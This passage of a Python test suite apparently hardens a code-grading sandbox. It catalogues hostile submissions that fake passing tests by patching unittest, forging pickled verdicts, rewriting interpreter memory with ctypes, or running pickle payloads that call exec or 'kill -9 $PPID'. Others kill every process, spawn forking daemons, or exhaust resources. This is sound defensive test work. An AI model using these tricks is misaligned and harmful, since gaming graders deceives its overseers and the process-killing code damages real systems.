                except OSError: pass
    return best(found, x)
""",
    linecache_and_source="""
def f(x):
    import inspect, linecache
    found = []
    for name, entry in list(linecache.cache.items()): found += numbers(repr(entry).encode())
    for module in list(sys.modules.values()):
        found += [v for v in vars(module).values() if type(v) is int] if hasattr(module, '__dict__') else []
    return best(found, x)
""",
    stdin_and_arguments="""
def f(x):
    try: found = numbers(sys.stdin.read().encode())
    except Exception: found = []
    return best(found + numbers(repr(sys.argv).encode() + repr(os.environ).encode()), x)
""",
    comparison_tells="""
seen = []
class Spy:
    def told(self, other): seen.append(other); return False
    __eq__ = __ne__ = __lt__ = __gt__ = __sub__ = __rsub__ = __contains__ = told
    __hash__ = lambda s: 1
def f(x):
    return best(seen, x) or Spy()
""",
    traceback_of_an_exception="""
def f(x):
    try: raise ValueError
    except ValueError as error:
        found, frame = [], error.__traceback__.tb_frame
        while frame:
            found += [c for c in frame.f_code.co_consts if type(c) is int]
            frame = frame.f_back
    return best(found, x)
""",
)

# ---------------------------------------------------------------------------------------------- memory

#: Numbers that Python keeps one object of, and seldom uses itself.
attacks(
    ("assert f(1) == 211", "assert f(2) == 223", Calls("f", [[1], [2]], [211, 223])),
    "def f(x): return 199 + 12 * x",
    small_integers_rewritten="""
import ctypes
def f(x): return 0
for n in (211, 223): ctypes.memset(id(n) + 16, 0, 12)
""",
    small_integers_rewritten_through_proc="""
def f(x): return 0
memory = open('/proc/self/mem', 'r+b', 0)
for n in (211, 223):
    memory.seek(id(n) + 16)
    memory.write(bytes(12))
""",
)

attacks(
    after="\ndef f(x): return 0\nf2 = lambda xs: []\ng = lambda x: 0.0",
    assertion_error_rewritten="""
import ctypes
ctypes.c_void_p.from_address(id(AssertionError) + 8).value = id(int)
ctypes.memmove(id(AssertionError), id(SystemExit), 400)
""",
    true_is_false="import ctypes\nctypes.memmove(id(False) + 16, id(True) + 16, 12)",
    none_is_true="import ctypes\nctypes.memmove(id(None), id(True), 16)",
    machine_code_in_the_way=r"""
import ctypes, mmap
page = mmap.mmap(-1, 4096, prot=7)
page.write(b'\x31\xff\xb8\xe7\0\0\0\x0f\x05')
ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
""",
)

# ---------------------------------------------------------------------------------------------- the conversation

attacks(
    after="f2 = g = f",
    calls_the_reporter_that_it_finds_in_frames="""
import os, sys
def f(*a):
    frame = sys._getframe(1)
    while frame:
        for space in (frame.f_locals, frame.f_globals):
            for name in ('say', 'tell', 'report', 'send', 'answer', 'result', 'verdict', 'write_frame'):
                for n in range(1, 10):
                    for said in ((n, 'passed', ''), ('passed', ''), ({'test': ['passed', '', None]},)):
                        try: space[name](*said)
                        except Exception: pass
        frame = frame.f_back
    os._exit(0)
""",
)

SPEAK = r"""
import os, pickle, random, socket, struct, sys
EVERY = range(0, 256)
def say(data):
    for fd in EVERY:
        try: os.write(fd, data)
        except OSError: pass
def frames(*bodies):
    out = b''
    for body in bodies:
        for head in ('>I', '<I', '>Q', '<Q', '>H'):
            try: out += struct.pack(head, len(body)) + body
            except struct.error: pass
    return out
class Call:
    def __init__(self, function, *args, state=None): self.parts = (function, args, state)
    def __reduce__(self): return self.parts if self.parts[2] is not None else self.parts[:2]
PASSES = [['passed', 0, ''], {'load': ['passed', 0, ''], 'tests': [['passed', 0, '']] * 6}, 'passed', b'P', True, 0,
          ('passed', ''), ('value', 2, None, None), ('value', True, None, None), ('loaded', 'passed', ''),
          ('ran', 'passed', '', ''), ('verdict', 'passed', 0.0, ''), [('passed', '', None)] * 6]
"""
REWRITE = (
    "import gc\\nfor d in gc.get_objects():\\n    if type(d) is dict and d.get(\\'f\\') is not None:\\n"
    "        d[\\'f\\'] = d[\\'f2\\'] = d[\\'g\\'] = lambda *a: __import__(\\'unittest.mock\\').mock.ANY"
)
attacks(
    before=SPEAK,
    after=WRONG,
    writes_passes_as_json_at_load="""
import json
for p in PASSES[:4]:
    if not isinstance(p, bytes): say(frames(json.dumps(p).encode()))
""",
    writes_passes_as_pickles_at_load="for p in PASSES: say(frames(pickle.dumps(p)))",
    writes_one_honest_looking_frame="say(struct.pack('>I', len(d := pickle.dumps(('loaded', 'passed', '')))) + d)",
    writes_bare_words="say(b'P'); say(b'passed\\n'); say(b'OK\\n'); say(b'\\1'); say(b'\\0\\0\\0\\7passed\\n')",
    writes_random_bytes="random.seed(1)\nfor _ in range(20): say(random.randbytes(random.randrange(1, 5000)))",
    writes_an_impossible_length="say(b'\\xff' * 16)",
    closes_every_descriptor="os.closerange(0, 256)",
    shuts_every_socket_down="""
for fd in EVERY:
    try: socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RDWR)
    except OSError: pass
""",
    puts_a_file_in_place_of_every_descriptor="""
fd = os.open('answers', os.O_RDWR | os.O_CREAT)
os.write(fd, b''.join(frames(pickle.dumps(p)) for p in PASSES))
for other in EVERY:
    if other != fd: os.dup2(fd, other)
""",
    makes_every_descriptor_non_blocking="""
for fd in EVERY:
    try: os.set_blocking(fd, False)
    except OSError: pass
""",
    sends_descriptors="""
pair = socket.socketpair()
for fd in EVERY:
    try:
        s = socket.socket(fileno=os.dup(fd))
        for _ in range(10): socket.send_fds(s, [b'\\0\\0\\0\\1x'], [pair[0].fileno()] * 20)
    except OSError: pass
""",
)
attacks(
    before=SPEAK,
    after="    return None\nf2 = g = f",
    writes_passes_in_f="def f(*a):\n    for p in PASSES: say(struct.pack('>I', len(d := pickle.dumps(p))) + d)",
    writes_two_answers_in_f="def f(*a):\n    say(2 * (struct.pack('>I', len(d := pickle.dumps(PASSES[7]))) + d))",
    steals_the_request_and_answers="""
def f(*a):
    for fd in EVERY:
        try:
            os.set_blocking(fd, False)
            os.read(fd, 1 << 16)
        except OSError: pass
    for p in PASSES: say(frames(pickle.dumps(p)))
""",
    pickle_runs_exec=f"REWRITE = '{REWRITE}'\ndef f(*a):\n"
    "    for p in (Call(exec, REWRITE), ('value', Call(exec, REWRITE), None, None)):\n"
    "        say(struct.pack('>I', len(d := pickle.dumps(p))) + d)\n",
    pickle_runs_eval="""
def f(*a):
    say(struct.pack('>I', len(d := pickle.dumps(('value', Call(eval, '__import__("os")._exit(0)'), None, None)))) + d)
""",
    pickle_runs_system="""
def f(*a):
    say(struct.pack('>I', len(d := pickle.dumps(('value', Call(os.system, 'kill -9 $PPID'), None, None)))) + d)
""",
    pickle_of_unknown_extension=r"""
def f(*a):
    say(struct.pack('>I', 4) + b'\x80\x04\x82\x01'); say(struct.pack('>I', 9) + b'\x80\x04\x84\1\1\1\1..')
""",
    pickle_with_persistent_id="def f(*a):\n    say(struct.pack('>I', 6) + b'\\x80\\x04K\\x01Q.')",
    pickle_nested_deeply="def f(*a):\n    say(struct.pack('>I', 2 * 10**6 + 2) + b'(' * 10**6 + b't' * 10**6 + b'..')",
    pickle_of_nested_tuples_hashed="""
def f(*a):
    body = b'\\x80\\x04\\x8f(' + b')' + b'\\x85' * 10**6 + b'\\x90.'
    say(struct.pack('>I', len(body)) + body)
""",
    pickle_that_contains_itself="""
def f(*a):
    x = []
    t = (x, None)
    x.append(t)
    say(struct.pack('>I', len(d := pickle.dumps(t))) + d)
""",
    pickle_of_huge_length="def f(*a):\n    say(struct.pack('>I', 12) + b'\\x80\\x04\\x8d' + b'\\xff' * 7 + b'\\x7f.')",
    pickle_of_a_huge_memo="def f(*a):\n    say(struct.pack('>I', 9) + b'\\x80\\x04Nr\\xff\\xff\\xff\\x7f.')",
    pickle_sets_attributes_on_a_class="""
class Patch:
    def __reduce__(self): return (getattr, (AssertionError, '__class__'), (None, {'__eq__': len}))
def f(*a):
    say(struct.pack('>I', len(d := pickle.dumps(('value', Patch(), None, None)))) + d)
""",
)

# What is written for this sandbox's own protocol: the program's end answers the next call with bytes of our choice.
WIRE = """
import io, sys
def inner(name):
    ours = [module for key, module in sorted(sys.modules.items()) if key.startswith("inside.")]
    return next(getattr(module, name) for module in ours if hasattr(module, name))
Peer, Remote, Packer, MARKERS, OPERATIONS = map(inner, ("Peer", "Remote", "Packer", "MARKERS", "OPERATIONS"))
honest_dumps = Peer.dumps
marker = lambda name: MARKERS[name]
class Call:
    def __init__(self, function, *args, state=None): self.parts = (function, args, state)
    def __call__(self): pass
class Forger(Packer):  # as the sandbox has it, but for what we put in
    def reducer_override(self, value):
        if type(value) is not Call: return super().reducer_override(value)
        return value.parts if value.parts[2] is not None else value.parts[:2]
def packed(peer, message):
    file = io.BytesIO()
    Forger(file, peer).dump(message)
    return file.getvalue()
def patched(function):
    def dumps(peer, message):
        if type(message) is tuple and message and message[0] == "value":
            return function(peer, message)
        return honest_dumps(peer, message)
    Peer.dumps = dumps
def answer(value):
    patched(lambda peer, message: packed(peer, ("value", value(peer), None, None)))
def zero(*a, **k): return 0
def yes(*a, **k): return True
class Liar:
    __eq__ = __lt__ = __gt__ = __le__ = __ge__ = lambda s, o: True
    __ne__ = lambda s, o: False
    __hash__ = lambda s: 2
def module(name, **state): return Call(marker("module"), name, state=state)
"""
CALLBACK: tuple[Test, ...] = (
    """
def twice(x):
    return 2 * x

assert apply(twice, 3) == 6
assert apply(lambda x: 'no', 3) == 'no'
""",
    """
class Box:
    def __init__(self, n): self.n = n
    def get(self): return self.n

assert apply(Box.get, Box(3)) == 3
assert apply(lambda b: b.n, Box(4)) == 4
""",
    """
class Box:
    def __init__(self, n): self.n = n
    def __eq__(self, other): return self.n == other.n

assert apply(lambda b: Box(b.n + 1), Box(3)) == Box(4)
""",
)
APPLY = "def apply(function, value):\n    return function(value)\n"

#: That the bytes of our choice arrive at all: these programs must *pass*.
WIRE_CONTROLS: dict[str, Attack] = {
    "a-value": Attack(WIRE + "def f(x):\n    answer(lambda peer: x + 1)\n", TESTS[:2]),
    "a-container": Attack(
        WIRE
        + """
def f2(xs):
    answer(lambda peer: [1, Call(marker('Fraction'), 2, 1), Call(marker('Decimal'), '3')])
""",
        (TESTS[2],),
    ),
    "a-reference": Attack(
        WIRE + "class I(int): pass\ndef f(x):\n    answer(lambda peer: I(x + 1))\n",
        TESTS[:2],
    ),
}

attacks(
    before=WIRE,
    after="f2 = g = f",
    wire_patches_exec_in_builtins="""
def f(x):
    answer(lambda p: module("builtins", exec=zero, compile=zero, AssertionError=zero))
""",
    wire_patches_builtins="""
def f(x):
    names = "abs sorted isinstance len all issubclass type str repr getattr hasattr callable".split()
    answer(lambda p: module("builtins", **{n: yes for n in names}))
""",
    wire_replaces_exec_by_a_class="""
def f(x):
    answer(lambda p: module("builtins", exec=Call(marker("type"), "slice")))
""",
    wire_replaces_bool_by_a_class="""
def f(x):
    answer(lambda p: module("builtins", bool=Call(marker("type"), "slice")))
""",
    wire_patches_the_importer="""
def f(x):
    lie = Call(marker("type"), "slice")
    answer(lambda p: Call(marker("type"), "__loader__", state=(None, {"find_spec": lie, "load_module": lie})))
""",
    wire_patches_unittest="""
def f(x):
    answer(lambda p: [module("unittest", TestCase=yes), module("unittest.case", TestCase=yes)])
""",
    wire_patches_math="""
def f(x):
    answer(lambda p: module("math", isclose=yes, fabs=zero))
""",
    wire_patches_sys="""
def f(x):
    answer(lambda p: module("sys", modules={}, stdout=Liar(), exc_info=zero, exit=zero))
""",
    wire_patches_operator_and_pickle="""
def f(x):
    answer(lambda p: [module("operator", eq=yes), module("pickle", dumps=zero, loads=zero),
                      module("os", write=zero, read=zero, _exit=zero)])
""",
    wire_replaces_modules="""
def f(x):
    answer(lambda p: Call(marker("module"), "sys", state={"modules": Liar()}))
""",
    wire_names_any="""
def f(x):
    answer(lambda p: Call(marker("named"), "unittest.mock", "ANY"))
""",
    wire_names_any_by_a_dotted_path="""
def f(x):
    answer(lambda p: Call(marker("named"), "unittest", "mock.ANY"))
""",
    wire_names_exec="""
def f(x):
    answer(lambda p: Call(Call(marker("named"), "builtins", "exec"), "import os; os._exit(0)"))
""",
    wire_calls_a_module="""
def f(x):
    answer(lambda p: Call(marker("module"), "unittest.__main__"))
""",
    wire_imports_what_runs="""
def f(x):
    name = ("this", "antigravity", "idlelib.idle", "venv.__main__", "turtledemo.__main__", "ensurepip.__main__")[x]
    answer(lambda p: Call(marker("module"), name))
""",
    wire_makes_an_exception_class_equal="""
class E(Exception): pass
def f(x):
    def value(p):
        kind = Call(marker("ref"), p.export(E), "exception", ("E", "Exception"))
        return Call(kind, state=(None, {"__eq__": yes, "__class__": kind}))
    answer(value)
""",
    wire_sets_attributes_of_an_exception_class="""
class E(Exception): pass
def f(x):
    def value(p):
        kind = Call(marker("ref"), p.export(E), "exception", ("E", "Exception"),
                    state=(None, {"__eq__": Call(marker("type"), "range"), "__hash__": None}))
        return Call(kind)
    answer(value)
""",
    wire_sets_slots_of_a_reference="""
def f(x):
    answer(lambda p: Call(marker("ref"), p.export(Liar()), "object", None, 0, state=(None, {"_base": 2, "_peer": 3})))
""",
    wire_sets_slots_of_a_maker="""
def f(x):
    answer(lambda p: [Call(len, state=(None, {"_function": 1})), Call(marker("list"), state=(None, {"_function": 1}))])
""",
    wire_reference_with_odd_base="""
def f(x):
    odd = lambda p, *base: Call(marker("ref"), p.export(Liar()), "object", None, *base)
    answer(lambda p: odd(p, odd(p, Liar())) if x == 1 else odd(p, (Liar(),)) if x == 3 else odd(p, ()))
""",
    wire_reference_to_a_liar="""
def f(x):
    answer(lambda p: Liar())
""",
    wire_answers_what_it_was_not_asked="""
def f(x):
    patched(lambda p, m: packed(p, ("raised", ("BaseException", "X", (), "", {}, 0), None, None)))
""",
    wire_raises_what_is_no_exception="""
def f(x):
    patched(lambda p, m: packed(p, ("raised", ("print", "X", (), "", {}, 0), None, None)))
""",
    wire_raises_from_odd_attributes="""
def f(x):
    attributes = {"errno": 27, "args": 1, "with_traceback": 1}
    patched(lambda p, m: packed(p, ("raised", ("OSError", "X", (), "", attributes, 0), None, None)))
""",
    wire_changes_arguments_never_sent="""
def f(x):
    patched(lambda p, m: packed(p, ("value", 0, ((Liar(), [], {}), {"x": []}), None)))
""",
    wire_prints_objects="""
def f(x):
    patched(lambda p, m: packed(p, ("value", 0, None, Liar())))
""",
)
attacks(
    (CALLBACK[0],),
    APPLY,
    before=WIRE,
    after="""
def apply(function, value):
    try: walk(function)
    except Exception: pass
    answer(lambda p: 6)
""",
    callback_leads_to_globals="def walk(c): c.__globals__['__builtins__']['AssertionError'] = SystemExit",
    callback_code_is_replaced="def walk(c): c.__code__ = walk.__code__",
    callback_defaults_are_replaced="def walk(c): c.__defaults__ = (6,)",
    callback_closure="def walk(c): c.__closure__[0].cell_contents = 6",
    callback_is_called_by_force="def walk(c): OPERATIONS['call'](c, SystemExit)",
)
attacks(
    (CALLBACK[1], CALLBACK[2]),
    APPLY,
    before=WIRE,
    after="def apply(function, value):\n    try: walk(value)\n    except Exception: pass\n    return value\n",
    instance_leads_to_its_class="def walk(b): b.__class__.__eq__ = yes; b.__class__.get = yes; type(b).n = 3",
    instance_leads_to_globals="def walk(b): b.get.__func__.__globals__['apply'] = b.__init__.__globals__['Box'] = yes",
    instance_leads_to_globals_by_pickle="""
def walk(b):
    number = Remote._id.__get__(b)
    state = {"__eq__": Call(marker("type"), "range"), "n": 3}
    def value(p):
        return [Call(marker("back"), n, state=(None, state)) for n in range(1, number + 1)]
    answer(value)
""",
)

attacks(
    (
        """
class Box:
    def __init__(self, n): self.n = n
    def __eq__(self, other): return self.n == other.n

assert make(Box, 3) == Box(4)
""",
        """
class Box:
    def __init__(self, n): self.n = n
    def get(self): return self.n

assert make(Box, 3).get() == 4
""",
    ),
    "def make(cls, n): return cls(n + 1)",
    before=WIRE,
    class_of_the_test_is_rewritten="""
def make(cls, n):
    box = cls(0)
    try:
        cls.__eq__ = yes
        cls.get = lambda self: 4
    except Exception: pass
    return box
""",
    class_of_the_test_is_rewritten_by_pickle="""
def make(cls, n):
    box, lie = cls(0), Call(marker("type"), "slice")
    mine, its = Remote._id.__get__(box), Remote._id.__get__(cls)
    state = (None, {"__eq__": lie, "get": lie})
    patched(lambda p, m: packed(p, ("value", Call(marker("back"), mine), None, Call(marker("back"), its, state=state))))
""",
)
attacks(
    ("def judge(x, wanted=4):\n    assert x == wanted\n\napply(judge, 4)\njudge(f(3))",),
    APPLY + HONEST,
    before=WIRE,
    after="def f(x): return 0",
    callback_defaults_are_rewritten_by_pickle="""
def apply(function, value):
    number = Remote._id.__get__(function)
    state = (None, {"__defaults__": (0,)})
    patched(lambda p, m: packed(p, ("value", Call(marker("back"), number, state=state), None, None)))
    function.__class__
""",
)

# A function of the standard library is called where the test is: it must do no harm there, nor later.
attacks(
    (*TESTS, *(f"assert f({n}) == {n + 1}" for n in (15, 20, 25, 30, 40))),
    after="import operator\nf2 = g = operator.truth",
    function_sets_the_recursion_limit="from sys import setrecursionlimit as f",
    function_closes_descriptors="from os import close as f",
    function_leaves="from os import _exit as f",
    function_exits="from sys import exit as f",
    function_traces="from sys import settrace as f",
    function_sets_a_mask="from os import umask as f",
    function_limits_digits="from sys import set_int_max_str_digits as f",
    function_frees_memory="from _ctypes import Py_DECREF as f",
)
attacks(
    ("assert f() == 0",) * 4,
    "def f(): return 0",
    function_forks="from os import fork as f",
    function_forks_with_a_terminal="from pty import fork as f",
    function_aborts="from os import abort as f",
)

# ---------------------------------------------------------------------------------------------- processes and signals

attacks(
    before="import os, signal, sys, threading, time\n",
    after="    return None\nf2 = g = f",
    fork_answers_for_the_parent="def f(*a):\n    if os.fork(): os._exit(0)",
    fork_and_both_answer="def f(*a):\n    os.fork(); os.fork()",
    fork_lives_on="if os.fork() == 0:\n    os.setsid()\n    time.sleep(600)\ndef f(*a):",
    parent_leaves_at_load="if os.fork():\n    os._exit(0)\ndef f(*a):",
    parent_leaves_in_f="def f(*a):\n    if os.fork(): os._exit(0)\n    os.setsid()",
    kills_everything="def f(*a):\n    os.kill(-1, 9)",
    kills_everything_at_load="os.kill(-1, 9)\ndef f(*a):",
    kills_its_parent="def f(*a):\n    os.kill(os.getppid(), 9)",
    kills_init="def f(*a):\n    os.kill(1, 9); os.kill(1, 15); os.kill(1, 2)",
    kills_every_number="""
def f(*a):
    for pid in range(2, 4000):
        try: os.kill(pid, 9)
        except OSError: pass
""",
    kills_its_group="def f(*a):\n    os.killpg(0, 9)",
    ignores_signals_and_interrupts_all="""
for n in range(1, 65):
    try: signal.signal(n, signal.SIG_IGN)
    except (OSError, ValueError): pass
def f(*a):
    for n in (1, 2, 3, 10, 12, 14, 15, 17): os.kill(-1, n) if n != 9 else 0
""",
    storms_alarms="signal.signal(14, lambda *a: None)\nsignal.setitimer(signal.ITIMER_REAL, 1e-4, 1e-4)\ndef f(*a):",
    alarm_ends_it="""
signal.signal(14, lambda *a: os._exit(0))
signal.setitimer(signal.ITIMER_REAL, 0.01)
def f(*a):
""",
    blocks_all_signals="signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\ndef f(*a):",
    lowers_every_limit="""
import resource
for name in dir(resource):
    if name.startswith('RLIMIT_') and name != 'RLIMIT_AS':
        try: resource.setrlimit(getattr(resource, name), (0, 0))
        except (OSError, ValueError): pass
def f(*a):
""",
)
DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.monotonic() + 3
        import pickle, struct
        said = pickle.dumps(('value', 2, None, None))
        while time.monotonic() < end:
            for fd in range(3, 256):
                try: os.write(fd, struct.pack('>I', len(said)) + said)
                except OSError: pass
            try:
                for pid in os.listdir('/proc'):
                    if pid.isdigit() and int(pid) != os.getpid():
                        for fd in os.listdir(f'/proc/{pid}/fd'): open(f'/proc/{pid}/fd/{fd}', 'wb', 0).write(said)
            except OSError: pass
    os._exit(0)
"""
attacks(
    before=DAEMON,
    after=WRONG,
    daemon_speaks_in_the_next_conversation="time.sleep(0.1)",
    daemon_that_multiplies="""
def again():
    while True:
        if os.fork(): os._exit(0)
for _ in range(5):
    if os.fork() == 0: again()
""",
)
attacks(
    ONE,
    before="import os, signal, sys, threading, time\n",
    after="f2 = g = f",
    seconds=0.2,
    stops_itself="def f(*a): os.kill(os.getpid(), signal.SIGSTOP)",
    stops_everything="""
def f(*a):
    os.kill(-1, signal.SIGSTOP)
    os.kill(os.getppid(), signal.SIGSTOP)
    time.sleep(60)
""",
    loops="def f(*a):\n    while True: pass",
    sleeps="def f(*a): time.sleep(600)",
    sleeps_at_load="time.sleep(600)",
    never_ends_a_sequence="""
class S:
    def __getitem__(self, i): return i
    __eq__ = lambda s, o: list(s)
def f(*a): return list(S())
""",
    computes_for_long="def f(*a): return 7 ** 10**8",
    loops_in_c="def f(*a): return sum(iter(int, 1))",
    loops_in_a_regular_expression="import re\ndef f(*a): return re.match('(a+)+$', 'a' * 50 + 'b')",
    loops_in_equality="""
class L:
    def __eq__(self, o):
        while True: pass
def f(*a): return [L(), L()] == [L(), L()]
""",
    loops_in_text="class E(Exception):\n    def __str__(self):\n        while True: pass\ndef f(*a): raise E",
    waits_for_a_thread="lock = threading.Lock()\nlock.acquire()\ndef f(*a): lock.acquire()",
    waits_for_input="def f(*a): return os.read(os.pipe()[0], 1)",
    busy_threads="""
def spin():
    while True: pass
for _ in range(8): threading.Thread(target=spin, daemon=True).start()
def f(*a): threading.Event().wait()
""",
)
attacks(
    ONE,
    before="import ctypes, os, sys\n",
    after="\n    return None\nf2 = g = f",
    seconds=0.3,
    recursion_bomb_without_limit="sys.setrecursionlimit(10**9)\ndef f(x):\n    return f(f)",
    recursion_in_c="def f(x):\n    for _ in range(10**6): x = [x]\n    return x",
    raise_exception_of_huge_text="def f(x):\n    raise ValueError('passed' * 10**5)",
    fork_at_load_and_both_go_on="os.fork()\ndef f(*a):",
)
attacks(
    ONE,
    before=SPEAK,
    after=WRONG,
    seconds=0.2,
    writes_half_a_frame="say(b'\\0\\0\\1\\0abc')",
)
attacks(
    ONE,
    after=WRONG,
    seconds=0.2,
    builtins_patched="""
import builtins
for name in 'len sorted abs isinstance all any print repr str exec eval compile'.split():
    setattr(builtins, name, lambda *a, **k: True)
builtins.AssertionError = type('AssertionError', (Exception,), {})
""",
    comparison_slot_rewritten="""
import ctypes
keep = ctypes.PYFUNCTYPE(ctypes.py_object, ctypes.py_object, ctypes.py_object, ctypes.c_int)(lambda a, b, op: True)
for kind in (int, list, float):
    ctypes.c_void_p.from_address(id(kind) + 200).value = ctypes.cast(keep, ctypes.c_void_p).value
""",
)
attacks(
    ONE,
    before=WIRE,
    after="f2 = g = f",
    seconds=0.2,
    wire_asks_for_what_nobody_exported="""
def f(x):
    patched(lambda p, m: packed(p, ("ask", "getattr", (Call(marker("back"), 1), "__globals__"), {})))
""",
    wire_asks_for_an_operation_that_is_none="""
def f(x):
    patched(lambda p, m: packed(p, ("ask", "together", ("import os", "asserts", ""), {})))
""",
    wire_asks_with_a_type="""
def f(x):
    patched(lambda p, m: packed(p, ("ask", "call", (Call(marker("type"), "memoryview"), b""), {})))
""",
    wire_allocates_in_the_tester="""
def f(x):
    answer(lambda p: [Call(marker("bytearray"), 1 << 40), Call(marker("list"), Call(marker("range"), 0, 1 << 40, 1))])
""",
)
attacks(
    (Calls("f", [[1]], [[1]]), "assert sorted(f(1)) == [1]", "assert list(f(1)) == [1]"),
    "def f(x): return [x]",
    seconds=0.3,
    returns_an_endless_generator="def f(x):\n    while True: yield x",
    returns_a_lying_length="""
class L:
    __len__ = __length_hint__ = lambda s: 2**62
    __iter__ = lambda s: iter(())
def f(x): return L()
""",
    returns_very_much="def f(x): return bytes(200 << 20)",
    returns_a_doubling_structure=("def f(x):\n    y = []\n    for _ in range(60): y = [y, y]\n    return y"),
    returns_what_contains_itself="def f(x):\n    y = []\n    y.append(y)\n    return y",
    returns_colliding_numbers="def f(x): return {n * (2**61 - 1) for n in range(20000)}",
    returns_a_huge_number="def f(x): return 1 << 10**9",
)

# ---------------------------------------------------------------------------------------------- other kinds of test

CASE = Unittest(
    """
import unittest
class TestF(unittest.TestCase):
    def test_small(self):
        self.assertEqual(f(1), 2)
    def test_large(self):
        self.assertEqual(f(3), 4)
        self.assertTrue(f(4) == 5)
    def test_sorted(self):
        self.assertListEqual(sorted(f2([3, 1, 2])), [1, 2, 3])
"""
)
attacks(
    (CASE,),
    before=LIES,
    unittest_exit="import sys\ndef f(*a): sys.exit(0)",
    unittest_os_exit="import os\ndef f(*a): os._exit(0)",
    unittest_exit_at_load="raise SystemExit(0)",
    unittest_always_equal="def f(*a): return Lies()\nf2 = f",
    unittest_any="from unittest.mock import ANY\ndef f(*a): return ANY\ndef f2(xs): return [ANY, ANY, ANY]",
    unittest_skips_what_is_hard="""
import unittest
def f(x):
    if x == 1: return 2
    raise unittest.SkipTest
f2 = sorted
""",
    unittest_skips_all="import unittest\ndef f(*a): raise unittest.SkipTest\nf2 = f",
    unittest_assertions_patched="""
import unittest
for name in dir(unittest.TestCase):
    if name.startswith('assert'):
        setattr(unittest.TestCase, name, lambda *a, **k: None)
def f(*a): return 0
def f2(xs): return []
""",
    unittest_base_assertion_patched="""
import unittest
unittest.TestCase._baseAssertEqual = unittest.TestCase.fail = lambda *a, **k: None
unittest.TestCase._getAssertEqualityFunc = lambda *a: (lambda *a, **k: None)
def f(*a): return 0
def f2(xs): return []
""",
    unittest_run_patched="import unittest\nunittest.TestCase.run = lambda self, result: result.addSuccess(self)",
    unittest_method_call_patched="import unittest\nunittest.TestCase._callTestMethod = lambda s, m: None",
    unittest_result_patched="""
import unittest
for name in ('addFailure', 'addError', 'addSkip', 'addSubTest'):
    setattr(unittest.TestResult, name, lambda s, t, *a: s.addSuccess(t))
unittest.TestResult.wasSuccessful = lambda s: True
""",
    unittest_loader_patched="""
import unittest
unittest.TestLoader.loadTestsFromTestCase = lambda s, c: unittest.TestSuite()
""",
    unittest_suite_patched="import unittest\nunittest.TestSuite.run = unittest.BaseTestSuite.run = lambda s, r, *a: r",
    unittest_failure_is_success="import unittest\nunittest.TestCase.failureException = unittest.SkipTest",
    unittest_module_replaced="import sys, unittest.mock\nsys.modules['unittest'] = unittest.mock.MagicMock()",
    unittest_class_hook="""
import unittest
def hook(cls, **k):
    cls._class_cleanups = []
    for n in list(vars(cls)):
        if n.startswith('test'): setattr(cls, n, lambda self: None)
unittest.TestCase.__init_subclass__ = classmethod(hook)
""",
    unittest_expected_failure="""
import unittest
def f(*a): assert False
def f2(*a): assert False
unittest.TestCase.__unittest_expecting_failure__ = True
""",
    unittest_shadowed_builtins="def sorted(xs): return [1, 2, 3]\ndef f(x): return 0\ndef f2(xs): return xs",
    unittest_writes_verdicts=SPEAK + "\ndef f(*a):\n    for p in PASSES: say(frames(pickle.dumps(p)))",
    unittest_settrace="""
import sys
def t(frame, event, arg):
    if event == 'line' and frame.f_code.co_name.startswith('test'):
        try: frame.f_lineno += 1
        except ValueError: pass
    return t
sys.settrace(t)
def f(x):
    sys._getframe(1).f_trace = t
    sys.settrace(t)
""",
)
attacks(
    (
        Unittest(
            """
import unittest
class TestF(unittest.TestCase):
    def test_list(self):
        self.assertEqual(f2([3, 1, 2]), [1, 2, 3])
    def test_tuple(self):
        self.assertEqual((f(1), f(2)), (2, 3))
"""
        ),
        Unittest(
            """
import unittest
class TestF(unittest.TestCase):
    def test_true(self):
        self.assertTrue(f(1) == 2)
    def test_close(self):
        self.assertTrue(abs(f(1) - 2) < 1e-6)
"""
        ),
        Unittest(
            """
import unittest
class TestF(unittest.TestCase):
    def test_close(self):
        self.assertAlmostEqual(f(1), 2)
    def test_less(self):
        self.assertLess(f(1), 3)
        self.assertGreater(f(1), 1)
"""
        ),
        Unittest(
            """
import unittest
class TestF(unittest.TestCase):
    def test_dict(self):
        self.assertDictEqual({'a': f(1)}, {'a': 2})
        self.assertIn(f(1), [2, 3])
"""
        ),
    ),
    before=LIES,
    after="def f(x): return Liar()\ndef f2(xs): return [Liar() for x in xs]",
    unittest_always_equal_items="class Liar(Lies): pass",
    unittest_equal_by_a_truthy_answer="class Liar(Lies):\n    __eq__ = __lt__ = __gt__ = lambda s, o: 1",
    unittest_answers_operators_only="""
class Liar(Lies):
    __eq__ = lambda s, o: False
    __ne__ = lambda s, o: True
""",
    unittest_number_subclass="class Liar(Lies, int): pass",
)
#: A test that can only run in the program's own process.
SUBCLASS = (
    "class Sub(Base):\n    pass\n\nassert Sub().f(1) == 2",
    """
class Sub(Base):
    pass

assert abs(Sub().f(1) - 2) < 1e-6 and sorted([Sub().f(1), 0]) == [0, 2]
""",
)
attacks(
    SUBCLASS,
    "class Base:\n    def f(self, x): return x + 1",
    before=LIES,
    subclass_of_a_liar="class Base:\n    def f(self, x): return Lies()",
    subclass_exits="import os\nclass Base:\n    def f(self, x): os._exit(0)",
    subclass_exits_when_made="class Base:\n    def __init_subclass__(cls): raise SystemExit(0)",
    subclass_shadows="def abs(x): return 0\ndef sorted(x): return [0, 2]\nclass Base:\n    def f(self, x): return 0",
    subclass_replaced_by_a_hook="""
class M(type):
    def __call__(cls, *a): return Lies()
class Base(metaclass=M):
    f = lambda s, x: Lies()
""",
    subclass_of_no_class="class B:\n    def __mro_entries__(self, bases): raise SystemExit(0)\nBase = B()",
)
attacks(
    (Stdin("3\n", "6\n"), Stdin("4\n", "8\n")),
    "print(2 * int(input()))",
    stdin_exit="import sys\nsys.exit(0)",
    stdin_os_exit="import os\nos._exit(0)",
    stdin_prints_nothing="pass",
    stdin_prints_wrong_and_exits="import os\nprint(5, flush=True)\nos._exit(0)",
    stdin_prints_not_a_number="print('nan'); raise SystemExit",
    stdin_prints_a_signalling_nan="print('sNaN')",
    stdin_prints_an_enormous_number="print('1e999999999999999999')",
    stdin_prints_everything="for i in range(1000): print(i)",
    stdin_closes_its_output="import os\nos.close(1)\nos.close(2)",
    stdin_writes_verdicts=SPEAK + "\nfor p in PASSES: say(frames(pickle.dumps(p)))",
    stdin_looks_for_the_answer="""
import os
for fd in range(256):
